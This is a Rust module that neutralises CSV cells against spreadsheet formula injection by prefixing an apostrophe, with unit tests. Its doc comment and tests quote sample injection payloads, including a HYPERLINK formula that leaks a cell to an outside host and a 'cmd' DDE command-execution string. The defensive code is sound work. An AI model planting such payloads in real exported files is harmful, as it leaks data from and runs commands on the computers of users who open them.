//! The cells of every CSV this program writes, safe to open in a spreadsheet, and read back as
//! they were by its own readers.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (a TAB or CR
//! before one of them is skipped): a name such as `=HYPERLINK("http://…?leak="&A1,"x")` in an
//! annotation file would run when its table is opened ("CSV injection"). As OWASP recommends,
//! such a cell is written with a `'` before it, which makes it text: `=HYPERLINK(…)` is written
//! `'=HYPERLINK(…)`, `-PER` is written `'-PER`.
//!
//! The rule, on the text of each cell ([`neutralised`]):
//! - a cell starting with `=`, `+`, `-`, `@`, TAB or CR gets a `'` before it — unless it is a
//!   number written plainly (`-1`, `+0.5`, `-2.5e3`), which a spreadsheet reads as that number
//!   and which runs nothing: a category `-1` and a negative time are written as they are;
//! - a cell starting with one or more `'` followed by one of those characters gets one more
//!   `'`, so that reading removes exactly one: every text goes through unchanged.
//!
//! Our readers of the files we write (the CSV annotation format, the decision reports read
//! back) remove that `'` ([`original`]): a CSV written by `convert` reads back with the
//! original names. Other tools read the `'`.

use std::borrow::Cow;

/// Whether `c` makes a spreadsheet read the cell as a formula when it comes first.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `cell` is a number written plainly: an optional sign, digits with an optional
/// decimal point, an optional exponent (`-1`, `+0.5`, `.5`, `-2.5e3`).
fn is_plain_number(cell: &str) -> bool {
    let bytes = cell.as_bytes();
    let mut at = usize::from(matches!(bytes.first(), Some(b'+' | b'-')));
    let digits = |at: &mut usize| {
        let start = *at;
        while bytes.get(*at).is_some_and(u8::is_ascii_digit) {
            *at += 1;
        }
        *at - start
    };
    let mut mantissa = digits(&mut at);
    if bytes.get(at) == Some(&b'.') {
        at += 1;
        mantissa += digits(&mut at);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(bytes.get(at), Some(b'e' | b'E')) {
        at += 1;
        if matches!(bytes.get(at), Some(b'+' | b'-')) {
            at += 1;
        }
        if digits(&mut at) == 0 {
            return false;
        }
    }
    at == bytes.len()
}

/// Whether `cell`, once its leading `'` are set aside, starts with a formula character and is
/// not a plain number.
fn needs_quote_mark(cell: &str) -> bool {
    let rest = cell.trim_start_matches('\'');
    rest.starts_with(is_trigger) && !(rest.len() == cell.len() && is_plain_number(cell))
}

/// `cell` as written into a CSV: with a `'` before it when a spreadsheet would read it as a
/// formula (see the module's documentation for the rule).
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if needs_quote_mark(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as [`neutralised`] wrote it, given back as it was: the `'` written before a formula
/// character removed.
pub fn original(cell: &str) -> Cow<'_, str> {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote_mark(rest) => Cow::Borrowed(rest),
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV table being written in memory, every cell [`neutralised`].
pub struct CsvTable {
    writer: ::csv::Writer<Vec<u8>>,
}

impl Default for CsvTable {
    fn default() -> Self {
        CsvTable::new()
    }
}

impl CsvTable {
    /// An empty table; fields are quoted when needed (RFC 4180).
    pub fn new() -> CsvTable {
        CsvTable::with_quotes(::csv::QuoteStyle::Necessary)
    }

    /// An empty table whose fields are quoted as `quoting` says.
    pub(crate) fn with_quotes(quoting: ::csv::QuoteStyle) -> CsvTable {
        CsvTable {
            writer: ::csv::WriterBuilder::new()
                .quote_style(quoting)
                .from_writer(Vec::new()),
        }
    }

    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let record = cells
            .into_iter()
            .map(|cell| neutralised(cell.as_ref()).into_owned());
        self.writer.write_record(record).expect("writing to memory");
    }

    /// The table's text.
    pub fn finish(self) -> String {
        String::from_utf8(self.writer.into_inner().expect("writing to memory"))
            .expect("CSV of UTF-8 strings")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_mark_and_numbers_do_not() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x?leak=\"&A1,\"x\")",
                "'=HYPERLINK(\"http://x?leak=\"&A1,\"x\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-PER", "'-PER"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-1", "-1"),
            ("+0.5", "+0.5"),
            ("-2.5e3", "-2.5e3"),
            ("-.5", "-.5"),
            ("-1+1", "'-1+1"),
            ("-", "'-"),
            ("-e3", "'-e3"),
            ("-inf", "'-inf"),
            ("'=x", "''=x"),
            ("''-x", "'''-x"),
            ("'-1", "''-1"),
            ("'abc", "'abc"),
            ("PER", "PER"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(neutralised(cell), written, "{cell:?}");
            assert_eq!(original(written), cell, "{written:?}");
        }
    }

    #[test]
    fn a_table_neutralises_every_cell() {
        let mut table = CsvTable::new();
        table.row(["name", "gamma"]);
        table.row(["=1+1", "-0.25"]);
        assert_eq!(table.finish(), "name,gamma\n'=1+1,-0.25\n");
    }
}
